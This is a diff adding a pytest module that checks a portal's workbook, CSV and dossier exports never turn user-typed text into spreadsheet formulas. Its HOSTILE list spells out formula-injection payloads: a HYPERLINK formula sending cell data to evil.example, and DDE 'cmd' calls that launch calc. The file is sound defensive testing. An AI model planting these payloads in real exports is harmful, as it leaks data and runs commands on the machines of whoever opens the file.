@@ -1,0 +1,94 @@
+"""No cell a user typed becomes a formula (core.spreadsheets), in any workbook or CSV the
+portal builds: the rule, then every export that carries user text."""
+
+import csv
+import io
+import zipfile
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from core.spreadsheets import csv_row, is_formula_like, xlsx_row
+from filings.models import AllianceMember
+from portal.dossier import build_dossier
+from portal.exports import build_workbook
+from tests.factories import LeadUnitUserFactory, MunicipalStaffFactory, filed_alliance
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_formula_like_texts_are_recognised(value):
+    assert is_formula_like(value)
+
+
+@pytest.mark.parametrize("value", ["保定联盟", "1+1", "", 5, -3, None, "a=b"])
+def test_ordinary_values_are_left_alone(value):
+    assert not is_formula_like(value)
+    assert csv_row([value]) == [value]
+
+
+def _cells(data: bytes):
+    for sheet in load_workbook(io.BytesIO(data)).worksheets:
+        for row in sheet.iter_rows():
+            yield from row
+
+
+@pytest.mark.parametrize("write_only", [True, False])
+def test_a_workbook_keeps_the_text_and_never_a_formula(write_only):
+    book = Workbook(write_only=write_only)
+    sheet = book.create_sheet("t") if write_only else book.active
+    sheet.append(xlsx_row(sheet, [*HOSTILE, 42]))
+    out = io.BytesIO()
+    book.save(out)
+    cells = list(_cells(out.getvalue()))
+    # XML turns a carriage return into a line feed; the text is otherwise unchanged.
+    assert [c.value for c in cells] == [*(v.replace("\r", "\n") for v in HOSTILE), 42]
+    assert all(c.data_type != "f" for c in cells)
+
+
+def test_csv_values_get_an_apostrophe():
+    assert csv_row(HOSTILE) == [f"'{v}" for v in HOSTILE]
+
+
+@pytest.fixture
+def hostile_alliance(db):
+    lead = LeadUnitUserFactory()
+    lead.organisation.name = "+保定恶意科技有限公司"
+    lead.organisation.save()
+    alliance = filed_alliance(lead_user=lead, name=HOSTILE[0], office_contact_name="@王五")
+    AllianceMember.objects.filter(alliance=alliance).update(task_division=HOSTILE[1])
+    return alliance
+
+
+def _no_formula_in_csv(text: str):
+    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
+        for value in row:
+            assert not is_formula_like(value), value
+
+
+@pytest.mark.parametrize("kind", ["alliances", "filings"])
+def test_staff_exports_carry_user_text_as_text(hostile_alliance, kind):
+    data = build_workbook(kind, MunicipalStaffFactory(), {})
+    cells = list(_cells(data))
+    if kind == "alliances":
+        assert HOSTILE[0] in [c.value for c in cells]
+    assert all(c.data_type != "f" for c in cells)
+
+
+def test_the_dossier_csv_files_carry_user_text_as_text(hostile_alliance):
+    archive = zipfile.ZipFile(io.BytesIO(build_dossier(hostile_alliance)))
+    names = [n for n in archive.namelist() if n.endswith(".csv")]
+    assert "members.csv" in names
+    members = archive.read("members.csv").decode("utf-8-sig")
+    assert f"'{HOSTILE[1]}" in members
+    for name in names:
+        _no_formula_in_csv(archive.read(name).decode("utf-8-sig"))
